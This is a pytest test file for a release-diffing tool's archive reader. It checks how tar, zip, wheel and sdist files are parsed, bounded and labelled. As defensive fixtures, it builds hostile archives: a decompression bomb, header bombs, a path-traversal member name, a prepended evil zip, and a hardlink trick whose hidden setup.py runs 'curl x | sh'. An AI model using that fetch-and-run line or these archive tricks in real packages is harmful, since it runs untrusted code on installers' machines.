"""Reading archives: every format, by content, with the facts the report shows."""

from __future__ import annotations

import gzip
import hashlib
import io
import struct
import tarfile
import zipfile
from pathlib import Path

import pytest

from sphinxext.releasediff.archive import Limits, read_archive, read_pair
from sphinxext.releasediff.errors import ArchiveError, LimitError
from sphinxext.releasediff.model import MemberKind

from .archives import MTIME, Entry, make_sdist, make_tar, make_wheel, make_zip

TREE = {"pkg/__init__.py": "x = 1\n", "README": "hello\n"}


@pytest.mark.parametrize(
    ("fmt", "expected"),
    [("tar.gz", "tar.gz"), ("tar.bz2", "tar.bz2"), ("tar.xz", "tar.xz"), ("zip", "zip")],
)
def test_sdist_formats(tmp_path: Path, fmt: str, expected: str) -> None:
    archive = read_archive(make_sdist(tmp_path, "demo", "1.0", TREE, fmt=fmt))
    facts = archive.facts
    assert (facts.name, facts.version, facts.kind, facts.format) == (
        "demo",
        "1.0",
        "sdist",
        expected,
    )
    assert facts.top_folder == "demo-1.0"
    files = {m.path: archive.content(m) for m in archive.members if m.kind == MemberKind.FILE}
    assert files["pkg/__init__.py"] == b"x = 1\n"
    assert "demo-1.0/pkg/__init__.py" in {m.name for m in archive.members}


def test_plain_tar_recognised_by_content_not_extension(tmp_path: Path) -> None:
    path = make_tar(tmp_path / "odd-name.zip", TREE, top="demo-1.0", compression="none")
    facts = read_archive(path).facts
    assert facts.format == "tar"
    assert facts.kind == "archive"
    assert facts.gzip is None


def test_gzip_tar_with_wrong_extension(tmp_path: Path) -> None:
    path = make_tar(tmp_path / "release.bin", TREE, top="x", compression="gz")
    assert read_archive(path).facts.format == "tar.gz"


def test_gzip_header_facts(tmp_path: Path) -> None:
    path = make_sdist(tmp_path, "demo", "1.0", TREE)
    header = read_archive(path).facts.gzip
    assert header is not None
    assert (header.original_name, header.mtime, header.compression, header.os) == (
        "demo-1.0.tar",
        MTIME,
        "max compression",
        "unknown",  # Python's gzip writes OS 255
    )


def test_archive_facts(tmp_path: Path) -> None:
    path = make_sdist(tmp_path, "demo", "1.0", TREE)
    facts = read_archive(path).facts
    assert facts.size == path.stat().st_size
    assert facts.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert facts.members == 5  # top folder, PKG-INFO, README, pkg/, pkg/__init__.py
    pkg_info = len(b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
    assert facts.uncompressed_size == len(b"x = 1\n") + len(b"hello\n") + pkg_info


def test_member_facts(tmp_path: Path) -> None:
    tree = {
        "run.sh": Entry(b"#!/bin/sh\n", mode=0o755),
        "link": Entry(kind="symlink", target="run.sh"),
        "hard": Entry(kind="hardlink", target="demo-1.0/run.sh"),  # stored before run.sh
        "zhard": Entry(kind="hardlink", target="demo-1.0/run.sh"),
        "fifo": Entry(kind="fifo"),
    }
    members = {
        m.path: m
        for m in read_archive(make_tar(tmp_path / "d.tar.gz", tree, top="demo-1.0")).members
    }
    run = members["run.sh"]
    assert (run.kind, run.mode, run.uid, run.gid, run.uname, run.gname, run.size, run.mtime) == (
        MemberKind.FILE,
        0o755,
        1001,
        123,
        "runner",
        "docker",
        10,
        float(MTIME),
    )
    assert (members["link"].kind, members["link"].linkname) == (MemberKind.SYMLINK, "run.sh")
    assert (members["hard"].kind, members["hard"].linkname) == (
        MemberKind.HARDLINK,
        "demo-1.0/run.sh",
    )
    # A hardlink to a member stored before it is the file extraction writes.
    hard = members["zhard"]
    assert (hard.kind, hard.linkname, hard.size, hard.sha256) == (
        MemberKind.FILE,
        "",
        10,
        run.sha256,
    )
    assert members["fifo"].kind == MemberKind.OTHER
    assert members[""].kind == MemberKind.DIR


def test_zip_modes_and_symlinks_are_files(tmp_path: Path) -> None:
    """pip and zipfile write a zip "symlink" as a file holding its target: so is it compared."""
    tree = {"bin/tool": Entry(b"x", mode=0o755), "alias": Entry(kind="symlink", target="bin/tool")}
    archive = read_archive(make_zip(tmp_path / "d.zip", tree, top="d"))
    members = {m.path: m for m in archive.members}
    assert members["bin/tool"].mode == 0o755
    alias = members["alias"]
    assert (alias.kind, alias.linkname, archive.content(alias)) == (
        MemberKind.FILE,
        "",
        b"bin/tool",
    )
    assert archive.facts.problems == (
        "zip entry marked as a symlink (to bin/tool) is written as a file by installers: d/alias",
    )


def test_wheel_identity_and_no_top_folder(tmp_path: Path) -> None:
    path = make_wheel(tmp_path, "demo-pkg", "2.0", {"demo_pkg/__init__.py": ""})
    archive = read_archive(path)
    assert (archive.facts.name, archive.facts.version, archive.facts.kind) == (
        "demo-pkg",
        "2.0",
        "wheel",
    )
    assert archive.facts.format == "wheel"
    assert archive.facts.top_folder is None
    assert "demo_pkg-2.0.dist-info/METADATA" in {m.path for m in archive.members}


def test_identity_from_pkg_info_when_file_name_says_nothing(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "Demo.Pkg", "1.0rc1", TREE)
    renamed = sdist.rename(tmp_path / "upload.tar.gz")
    facts = read_archive(renamed).facts
    assert (facts.name, facts.version, facts.kind) == ("Demo.Pkg", "1.0rc1", "sdist")


def test_name_spelling_from_metadata_when_same_project(tmp_path: Path) -> None:
    facts = read_archive(make_sdist(tmp_path, "backend.ai-common", "23.3.8", TREE)).facts
    assert (facts.name, facts.version) == ("backend.ai-common", "23.3.8")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty file, not an archive"),
        (b"hello, I am text\n" * 40, "not a tar or zip archive (unrecognised content)"),
    ],
)
def test_not_an_archive(tmp_path: Path, content: bytes, reason: str) -> None:
    path = tmp_path / "x.tar.gz"
    path.write_bytes(content)
    with pytest.raises(ArchiveError) as info:
        read_archive(path)
    assert str(info.value) == f"{path}: {reason}"


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(ArchiveError, match="no such file"):
        read_archive(tmp_path / "missing.tar.gz")


def test_directory_is_not_an_archive(tmp_path: Path) -> None:
    with pytest.raises(ArchiveError, match="is a directory"):
        read_archive(tmp_path)


@pytest.mark.parametrize("fmt", ["tar.gz", "tar.bz2", "tar.xz", "zip"])
def test_truncated_archive_is_reported_not_half_compared(tmp_path: Path, fmt: str) -> None:
    path = make_sdist(tmp_path, "demo", "1.0", {"big.txt": "line\n" * 20000}, fmt=fmt)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) - 40])
    with pytest.raises(ArchiveError) as info:
        read_archive(path)
    assert str(info.value).startswith(f"{path}: ")


def test_bad_gzip_crc_is_reported(tmp_path: Path) -> None:
    path = make_sdist(tmp_path, "demo", "1.0", TREE)
    data = bytearray(path.read_bytes())
    data[-8] ^= 0xFF  # the CRC32 in the gzip trailer
    path.write_bytes(bytes(data))
    with pytest.raises(ArchiveError, match=r"corrupt tar\.gz archive"):
        read_archive(path)


def test_bad_zip_crc_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "d.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("d/a.txt", b"payload-payload")
    data = path.read_bytes().replace(b"payload-payload", b"PAYLOAD-payload", 1)
    path.write_bytes(data)
    with pytest.raises(ArchiveError, match="corrupt zip archive"):
        read_archive(path)


def test_member_limit_is_enforced_while_reading(tmp_path: Path) -> None:
    tree = {f"f{i}": "" for i in range(50)}
    path = make_tar(tmp_path / "many.tar.gz", tree, top="many")
    with pytest.raises(LimitError, match="more than 10 members"):
        read_archive(path, Limits(max_members=10))


def test_byte_limit_is_enforced_while_decompressing(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("bomb/zeros")
        info.size = 50 << 20
        tar.addfile(info, io.BytesIO(bytes(info.size)))
    path = tmp_path / "bomb.tar.gz"
    path.write_bytes(gzip.compress(buffer.getvalue(), 9))
    assert path.stat().st_size < 200_000
    with pytest.raises(LimitError, match=r"more than 1,048,576 bytes uncompressed"):
        read_archive(path, Limits(max_bytes=1 << 20))


def test_large_member_is_hashed_not_kept(tmp_path: Path) -> None:
    path = make_tar(tmp_path / "big.tar.gz", {"big": b"x" * 5000, "small": b"y"}, top="t")
    archive = read_archive(path, Limits(max_file_bytes=1000))
    members = {m.path: m for m in archive.members}
    assert archive.content(members["big"]) is None
    assert members["big"].size == 5000
    assert members["big"].sha256 == hashlib.sha256(b"x" * 5000).hexdigest()
    assert archive.content(members["small"]) == b"y"


def _zip_entries(path: Path, entries: list[tuple[str, int, int, bytes]]) -> Path:
    """A zip of ``(name, create_system, unix mode, data)`` entries."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, system, mode, data in entries:
            info = zipfile.ZipInfo(name, (2023, 7, 6, 4, 38, 8))
            info.create_system = system
            info.external_attr = mode << 16
            archive.writestr(info, data)
    return path


def test_zip_kinds_are_what_installers_write(tmp_path: Path) -> None:
    """A name ending in / is a folder, a short S_IFLNK entry a link, everything else a file."""
    path = _zip_entries(
        tmp_path / "d.zip",
        [
            ("d/plain", 3, 0o600, b"no type bits"),
            ("d/dos", 0, 0, b"made on FAT"),
            ("d/folder-bits", 3, 0o40755, b"data"),
            ("d/fifo-bits", 3, 0o10644, b"data"),
            ("d/link", 3, 0o120777, b"plain"),
            ("d/sub/", 3, 0o40755, b""),
        ],
    )
    archive = read_archive(path)
    kinds = {m.path: (m.kind, m.mode, archive.content(m)) for m in archive.members}
    assert kinds == {
        "plain": (MemberKind.FILE, 0o600, b"no type bits"),
        "dos": (MemberKind.FILE, None, b"made on FAT"),
        "folder-bits": (MemberKind.FILE, 0o755, b"data"),
        "fifo-bits": (MemberKind.FILE, 0o644, b"data"),
        "link": (MemberKind.FILE, 0o777, b"plain"),
        "sub": (MemberKind.DIR, 0o755, None),
    }
    assert archive.facts.problems == (
        "zip entry marked as a folder is written as a file by installers: d/folder-bits",
        "zip entry marked as a FIFO is written as a file by installers: d/fifo-bits",
        "zip entry marked as a symlink (to plain) is written as a file by installers: d/link",
    )


def test_wheels_written_by_writestr_are_compared(tmp_path: Path) -> None:
    from sphinxext.releasediff.compare import compare

    paths = []
    for version, code in (("1.0", "x = 1\n"), ("1.1", "x = 2\n")):
        path = tmp_path / f"demo-{version}-py3-none-any.whl"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("demo/__init__.py", code)
        paths.append(path)
    comparison = compare(read_archive(paths[0]), read_archive(paths[1]))
    assert [(c.path, c.status, c.insertions, c.deletions) for c in comparison.files] == [
        ("__init__.py", "modified", 1, 1)  # the one folder is taken as a top folder
    ]


def test_zip_folder_entry_with_data_is_labelled(tmp_path: Path) -> None:
    path = _zip_entries(tmp_path / "d.zip", [("d/x/", 3, 0o40755, b"hidden"), ("d/a", 3, 0, b"")])
    archive = read_archive(path)
    assert archive.facts.problems == ("folder entry holds 6 bytes that installers ignore: d/x/",)
    assert [archive.content(member) for member in archive.members] == [None, b""]
    assert archive.contents == {hashlib.sha256(b"").hexdigest(): b""}


@pytest.mark.parametrize(
    ("date_time", "shown"),
    [
        ((2023, 0, 0, 4, 38, 8), "2023-00-00 04:38:08 (not a date)"),
        ((2023, 2, 30, 4, 38, 8), "2023-02-30 04:38:08 (not a date)"),
        ((2023, 7, 6, 31, 63, 62), "2023-07-06 31:63:62 (not a date)"),
    ],
)
def test_zip_dates_that_are_not_dates(
    tmp_path: Path, date_time: tuple[int, ...], shown: str
) -> None:
    path = tmp_path / "d.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(zipfile.ZipInfo("d/a", (2023, 7, 6, 4, 38, 8)), b"x")
    data = bytearray(path.read_bytes())
    year, month, day, hour, minute, second = date_time
    packed = struct.pack(
        "<HH", hour << 11 | minute << 5 | second // 2, (year - 1980) << 9 | month << 5 | day
    )
    at = data.find(b"PK\x01\x02")
    data[at + 12 : at + 16] = packed
    path.write_bytes(bytes(data))
    (member,) = read_archive(path).members
    assert (member.mtime, member.mtime_invalid) == (None, shown)


def test_zip_date_is_utc_timestamp(tmp_path: Path) -> None:
    path = _zip_entries(tmp_path / "d.zip", [("d/a", 3, 0o644, b"x")])
    (member,) = read_archive(path).members
    assert (member.mtime, member.mtime_invalid) == (float(MTIME), None)


def _tar_of(path: Path, infos: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in infos:
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    path.write_bytes(gzip.compress(buffer.getvalue()))
    return path


def _tar_info(name: str, **pax: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.mtime = MTIME
    info.pax_headers = pax
    return info


@pytest.mark.parametrize(
    ("stored", "mtime", "invalid"),
    [
        ("inf", None, "inf"),
        ("-inf", None, "-inf"),
        ("nan", None, "nan"),
        ("1e30", None, "1e+30 (out of range)"),
        ("-1e12", None, "-1000000000000.0 (out of range)"),
        ("253402300800", None, "253402300800.0 (out of range)"),
        ("253402300799.5", 253402300799.5, None),
        ("-86400", -86400.0, None),
        ("1688618288.25", 1688618288.25, None),
    ],
)
def test_tar_timestamps(tmp_path: Path, stored: str, mtime: float | None, invalid: str) -> None:
    path = _tar_of(tmp_path / "t.tar.gz", [(_tar_info("t/a", mtime=stored), b"x")])
    (member,) = read_archive(path).members
    assert (member.mtime, member.mtime_invalid) == (mtime, invalid)


def test_tar_huge_integer_timestamp(tmp_path: Path) -> None:
    info = _tar_info("t/a")
    info.mtime = 8**28  # base-256 in a GNU header
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        tar.addfile(info, io.BytesIO(b""))
    path = tmp_path / "t.tar"
    path.write_bytes(buffer.getvalue())
    (member,) = read_archive(path).members
    assert (member.mtime, member.mtime_invalid) == (None, f"{8**28} (out of range)")


def test_tar_member_of_unknown_type_is_a_file(tmp_path: Path) -> None:
    info = _tar_info("t/run.py")
    info.type = b"Z"
    path = _tar_of(tmp_path / "t.tar.gz", [(info, b"import os\n"), (_tar_info("t/b"), b"b")])
    archive = read_archive(path)
    run = archive.members[0]
    assert (run.kind, run.size, archive.content(run)) == (MemberKind.FILE, 10, b"import os\n")
    assert run.sha256 == hashlib.sha256(b"import os\n").hexdigest()
    assert archive.content(archive.members[1]) == b"b"
    assert archive.facts.problems == (
        "tar member of unknown type 'Z' is extracted as a file, and compared as one: t/run.py",
    )


def test_non_utf8_tar_names_are_escaped(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with tarfile.open(
        fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT, encoding="latin-1"
    ) as tar:
        info = tarfile.TarInfo("t/\xff.py")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"y"))
    path = tmp_path / "t.tar"
    path.write_bytes(buffer.getvalue())
    archive = read_archive(path)
    (member,) = archive.members
    assert member.name == "t/\\xff.py"
    assert archive.content(member) == b"y"
    member.name.encode("utf-8")  # no lone surrogates


def test_pax_header_left_to_tarfile_is_read_again_from_the_stream(tmp_path: Path) -> None:
    """A PAX header the fast path does not take (hdrcharset=BINARY) is read by tarfile
    after a seek back over the decompressed stream, between two that it takes."""
    odd = tarfile.TarInfo("t/" + "\udcff" * 120 + ".py")
    odd.size = 1
    infos = [_tar_info("t/first-" + "a" * 100), odd, _tar_info("t/last-" + "b" * 100)]
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info in infos:
            tar.addfile(info, io.BytesIO(b"y" * info.size))
    assert buffer.getvalue().count(b"hdrcharset=BINARY") == 1
    path = tmp_path / "t.tar.gz"
    path.write_bytes(gzip.compress(buffer.getvalue()))
    archive = read_archive(path)
    names = [member.name for member in archive.members]
    assert names == ["t/first-" + "a" * 100, "t/" + "\\xff" * 120 + ".py", "t/last-" + "b" * 100]
    assert archive.content(archive.members[1]) == b"y"


@pytest.mark.parametrize(
    ("names", "paths", "top"),
    [
        (["./d/a", "d//b", "d/./c/.", "d/x/../e"], ["a", "b", "c", "e"], "d"),
        (["d/a", "d/../../evil"], ["a", "../evil"], "d"),
        (["d", "d/a"], ["d", "d/a"], None),  # a file where the top folder would be
        (["./", "d/a"], ["", "a"], "d"),  # labelled: a file no installer can write
    ],
)
def test_names_are_canonical_paths(
    tmp_path: Path, names: list[str], paths: list[str], top: str | None
) -> None:
    path = _tar_of(tmp_path / "t.tar.gz", [(_tar_info(name), b"x") for name in names])
    archive = read_archive(path)
    assert [m.path for m in archive.members] == paths
    assert [m.name for m in archive.members] == names
    assert archive.facts.top_folder == top


def test_duplicates_after_normalisation_keep_the_last(tmp_path: Path) -> None:
    from sphinxext.releasediff.compare import compare

    infos = [(_tar_info("d/a"), b"first\n"), (_tar_info("./d//a"), b"second\n")]
    new = read_archive(_tar_of(tmp_path / "new.tar.gz", infos))
    old = read_archive(_tar_of(tmp_path / "old.tar.gz", [(_tar_info("d/a"), b"second\n")]))
    assert new.facts.problems == (
        "duplicate member (2 times; the last one is compared, as an installer would keep it): "
        "a (stored as 'd/a', './d//a'; kept: #2 './d//a')",
    )
    assert compare(old, new).files == ()


def _sparse_tar(path: Path, real_size: int) -> Path:
    from .hostile import sparse_header

    chunk = b"sparse\n".ljust(512, b"\x00")
    path.write_bytes(gzip.compress(sparse_header("t/holes", real_size, 512) + chunk + bytes(1024)))
    return path


def test_sparse_member_is_read_with_its_holes(tmp_path: Path) -> None:
    archive = read_archive(_sparse_tar(tmp_path / "s.tar.gz", 4096))
    (member,) = archive.members
    expected = b"sparse\n".ljust(4096, b"\x00")
    assert (member.kind, member.size, archive.content(member)) == (MemberKind.FILE, 4096, expected)
    assert member.sha256 == hashlib.sha256(expected).hexdigest()


def test_sparse_member_charges_its_declared_size(tmp_path: Path) -> None:
    path = _sparse_tar(tmp_path / "s.tar.gz", 2 << 20)
    assert read_archive(path, Limits(max_bytes=3 << 20)).members[0].size == 2 << 20
    with pytest.raises(LimitError, match=r"more than 1,048,576 bytes uncompressed"):
        read_archive(path, Limits(max_bytes=1 << 20))


@pytest.mark.parametrize("kind", [tarfile.GNUTYPE_LONGNAME, tarfile.XHDTYPE])
def test_header_over_a_mebibyte_is_refused_unread(tmp_path: Path, kind: bytes) -> None:
    header = tarfile.TarInfo("././@LongLink")
    header.type, header.size = kind, (1 << 20) + 1
    path = tmp_path / "h.tar.gz"
    path.write_bytes(gzip.compress(header.tobuf(format=tarfile.GNU_FORMAT)))  # no payload at all
    with pytest.raises(LimitError) as info:
        read_archive(path)
    assert info.value.reason == (
        "a member header (GNU long name or PAX record) of 1,049,088 bytes: "
        "more than 1,048,576 bytes in one header, refused unread"
    )


def test_long_names_within_bounds_are_read(tmp_path: Path) -> None:
    name = "t/" + "n" * 5000
    path = _tar_of(tmp_path / "t.tar.gz", [(_tar_info(name, comment="c" * 100_000), b"x")])
    assert [m.path for m in read_archive(path).members] == ["n" * 5000]


def test_names_and_headers_are_bounded_in_total(tmp_path: Path) -> None:
    from .hostile import header_bomb

    with pytest.raises(LimitError, match=r"more than 33,554,432 bytes of member names"):
        read_archive(header_bomb(tmp_path / "b.tar.gz", 33, "name"))
    assert len(read_archive(header_bomb(tmp_path / "ok.tar.gz", 31, "pax")).members) == 31


def test_forward_reader_returns_every_byte_across_refills(tmp_path: Path) -> None:
    import random

    data = random.Random(7).randbytes(5 * (1 << 20) + 123)
    small = [(_tar_info(f"t/s{i}"), bytes([i]) * (i * 37 % 3000)) for i in range(200)]
    path = _tar_of(tmp_path / "t.tar.gz", [*small, (_tar_info("t/big"), data)])
    archive = read_archive(path)
    contents = [archive.content(m) for m in archive.members]
    assert contents == [item for _info, item in small] + [data]


def test_metadata_is_read_from_the_copy_extraction_keeps(tmp_path: Path) -> None:
    first = b"Metadata-Version: 2.1\nName: decoy\nVersion: 9.9\n"
    last = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
    infos = [(_tar_info("d/PKG-INFO"), first), (_tar_info("./d/PKG-INFO"), last)]
    facts = read_archive(_tar_of(tmp_path / "upload.tar.gz", infos)).facts
    assert (facts.name, facts.version) == ("demo", "1.0")


def test_the_listing_shows_invalid_timestamps_in_words(tmp_path: Path) -> None:
    from sphinxext.releasediff.compare import compare
    from sphinxext.releasediff.listing import format_mtime, listing_diff

    old = _tar_of(tmp_path / "t-1.0.tar.gz", [(_tar_info("t/a", mtime="inf"), b"x")])
    new = _tar_of(tmp_path / "t-1.1.tar.gz", [(_tar_info("t/a", mtime="nan"), b"x")])
    text = listing_diff(compare(read_archive(old), read_archive(new)))
    assert "-rw-r--r--" in text
    assert " invalid (inf) a\n" in text
    assert " invalid (nan) a\n" in text
    assert format_mtime(float("inf")) == "(invalid: inf)"
    assert format_mtime(1e12).startswith("(out of range")


def test_pair_holds_a_file_identical_in_both_once(tmp_path: Path) -> None:
    shared = "same in both releases\n" * 50
    old_path = make_sdist(tmp_path, "demo", "1.0", {"same.txt": shared, "a.txt": "old\n"})
    new_path = make_sdist(tmp_path, "demo", "1.1", {"same.txt": shared, "a.txt": "new\n"})
    old, new = read_pair(old_path, new_path)
    old_same, new_same = (
        next(m for m in archive.members if m.path == "same.txt") for archive in (old, new)
    )
    assert old_same.sha256 == new_same.sha256
    assert old.content(old_same) is new.content(new_same)
    assert old.content(old_same) == shared.encode()
    digests = {m.sha256 for a in (old, new) for m in a.members if m.kind == MemberKind.FILE}
    assert set(old.contents) == digests  # one entry per distinct content, across the pair
    texts = {
        m.path: (old.content(m), new.content(n))
        for m, n in zip(old.members, new.members, strict=True)
    }
    assert texts["a.txt"] == (b"old\n", b"new\n")


def test_duplicate_names_each_keep_their_own_content(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for content in (b"first\n", b"second\n"):
            info = tarfile.TarInfo("demo-1.0/a")
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    path = tmp_path / "demo-1.0.tar"
    path.write_bytes(buffer.getvalue())
    archive = read_archive(path)
    assert [archive.content(m) for m in archive.members] == [b"first\n", b"second\n"]


def test_member_over_the_file_limit_has_no_content_though_a_twin_is_held(tmp_path: Path) -> None:
    """Equal sha256 means equal size: what is over the limit in one archive is in the other."""
    old_path = make_sdist(tmp_path, "demo", "1.0", {"big": "x" * 100})
    new_path = make_sdist(tmp_path, "demo", "1.1", {"big": "x" * 100})
    old, new = read_pair(old_path, new_path, Limits(max_file_bytes=50))
    assert [a.content(m) for a in (old, new) for m in a.members if m.path == "big"] == [None, None]


def test_a_hardlink_is_the_copy_of_its_target_stored_before_it(tmp_path: Path) -> None:
    """pip and GNU tar extract setup.py as the evil copy the link follows, however the
    target is stored again after it."""
    evil, benign = b"__import__('os').system('curl x | sh')\n", b"print('hello')\n"
    path = tmp_path / "hl-1.1.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, data in (("hl-1.1/ci/impl.py", evil), ("hl-1.1/ci/impl.py", benign)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            if data is benign:
                link = tarfile.TarInfo("hl-1.1/setup.py")
                link.type, link.linkname = tarfile.LNKTYPE, "hl-1.1/ci/impl.py"
                tar.addfile(link)
            tar.addfile(info, io.BytesIO(data))
    archive = read_archive(path)
    setup = next(member for member in archive.members if member.path == "setup.py")
    assert (setup.kind, archive.content(setup)) == (MemberKind.FILE, evil)
    assert (
        "hardlink setup.py -> ci/impl.py: compared as the copy of its target stored before it, "
        "which extraction writes"
    ) in archive.facts.problems


def test_bytes_no_central_directory_entry_holds_are_labelled(tmp_path: Path) -> None:
    """A whole other zip prepended: zipfile and pip read the directory at the end, a reader
    of local headers the evil entries first."""
    (tmp_path / "evil").mkdir()
    (tmp_path / "good").mkdir()
    evil = make_wheel(tmp_path / "evil", "zh", "1.1", {"zh/__init__.py": "import os\n"})
    good = make_wheel(tmp_path / "good", "zh", "1.1", {"zh/__init__.py": "x = 1\n"})
    assert read_archive(good).facts.problems == ()
    joined = tmp_path / "zh-1.1-py3-none-any.whl"
    joined.write_bytes(evil.read_bytes() + good.read_bytes())
    problems = read_archive(joined).facts.problems
    assert problems == (
        f"{len(evil.read_bytes()):,} bytes that no entry of the central directory holds "
        "(first at offset 0): a reader that walks local headers, not the directory, sees "
        "other files",
    )
